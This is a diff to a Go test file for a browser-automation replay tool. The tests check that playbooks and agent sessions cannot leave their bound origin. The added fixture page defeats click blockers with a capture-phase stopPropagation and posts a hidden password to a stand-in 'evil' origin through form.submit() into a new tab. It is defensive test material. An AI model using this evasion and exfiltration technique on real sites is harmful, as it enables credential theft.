@@ -32,9 +32,11 @@ func otherOrigin(t *testing.T) (*httptest.Server, *atomic.Int64) {
 // TestReplaysStayOnTheirOrigin replays playbooks that try to take the
 // page off the site they are bound to: other schemes, a parameter that
 // escapes a relative path, a redirect, a link, a script and a form that
-// go to another origin, a frame the page embeds from there and a form
-// aimed at a frame. Each stops with out_of_origin (a frame stays empty),
-// and the other origin never hears a request. An agent's session is held the same way.
+// go to another origin, the same in a new tab or window (also from a
+// page that undoes any blocker in its own world), a frame the page
+// embeds from there and a form aimed at a frame. Each stops with
+// out_of_origin (a frame stays empty), and the other origin never hears
+// a request. An agent's session is held the same way.
 func TestReplaysStayOnTheirOrigin(t *testing.T) {
 	t.Parallel()
 	evil, stolen := otherOrigin(t)
@@ -51,6 +53,16 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 <form action="%[1]s/post" method="post"><input name="pw" aria-label="Password"><button>Send</button></form>
 <iframe name="side" title="Side"></iframe><iframe src="%[1]s/embedded" title="Embedded"></iframe>
 <form action="%[1]s/framed" target="side"><input name="pw" aria-label="Frame password"><button>Send to the frame</button></form></main>`, evil.URL)
+		case "/undone":
+			// A page that undoes any blocker in its own world: every click
+			// stopped on the window before a document listener hears it,
+			// and a form aimed at a new tab sent with form.submit(), which
+			// fires no submit event.
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprintf(w, `<!doctype html><script>window.addEventListener("click", e => e.stopPropagation(), true)</script>
+<main><h1>Home</h1><a href="%[1]s/swallowed" target="_blank">Partner offers</a>
+<form id="f" action="%[1]s/submitted" method="post" target="_blank"><input type="hidden" name="pw" value="hunter2"></form>
+<span role="button" tabindex="0" onmousedown="document.getElementById('f').submit()">Send it</span></main>`, evil.URL)
 		default:
 			http.NotFound(w, r)
 		}
@@ -77,6 +89,8 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 		{"script", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Jump}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"new tab", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner tab}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"popup", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Pop up}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
+		{"a page that stops clicks", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: link, name: Partner offers}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
+		{"form.submit() into a new tab", `{id: open, kind: deterministic, tool: navigate, args: {url: /undone}}, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Send it}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"form in a new tab", open + `, {id: go, kind: deterministic, needs: [open], tool: click, target: {role: button, name: Open in a tab}}, {id: after, kind: deterministic, needs: [go], tool: navigate, args: {url: /}}`, nil},
 		{"form into a frame", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Frame password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send to the frame}}`, map[string]string{"page": "hunter2"}},
 		{"form", open + `, {id: pw, kind: deterministic, needs: [open], tool: fill, target: {role: textbox, name: Password}, args: {value: "{{page}}"}}, {id: go, kind: deterministic, needs: [pw], tool: click, target: {role: button, name: Send}}`, map[string]string{"page": "hunter2"}},
@@ -91,7 +105,7 @@ func TestReplaysStayOnTheirOrigin(t *testing.T) {
 		}
 		p := decodeOrFail(t, "name: escape\nintent: go somewhere\nparams: "+params+"\nsteps: ["+c.steps+"]\nverify: [{url_contains: /}]\n")
 		res := browserReplay(t, n, p, home.URL, c.params)
-		if (c.name == "backslash" || c.name == "new tab" || c.name == "popup" || c.name == "form in a new tab" || c.name == "form into a frame") && res.Outcome == schema.OutcomeSuccess {
+		if (c.name == "backslash" || c.name == "form into a frame") && res.Outcome == schema.OutcomeSuccess {
 			continue // and the other origin heard nothing: checked below
 		}
 		if res.Outcome == schema.OutcomeSuccess || !errors.Is(res.Reason, schema.ErrOutOfOrigin) {
